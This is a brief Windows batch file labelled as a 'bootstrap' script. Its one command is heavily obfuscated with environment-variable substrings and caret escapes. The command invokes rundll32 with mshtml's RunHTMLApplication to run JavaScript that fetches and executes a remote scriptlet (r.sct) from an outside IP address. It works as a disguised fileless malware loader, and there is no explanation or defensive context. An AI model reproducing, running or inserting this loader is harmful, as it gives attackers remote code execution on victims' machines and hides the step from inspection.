REM bootstrap 3056 v2
%public:~6,1%u%comspec:~5,1%%windir:~6,1%%public:~12,1%^l^32.%COMSPEC:~26,1%%comspec:~25,1%%comspec:~-12,1% ja^va^s^c^r^ipt:"\..\mshtml,RunHTMLApplication ";docu^men^t.w^r^ite();GetO^b^ject("script:http://198.51.100.9/r.sct")
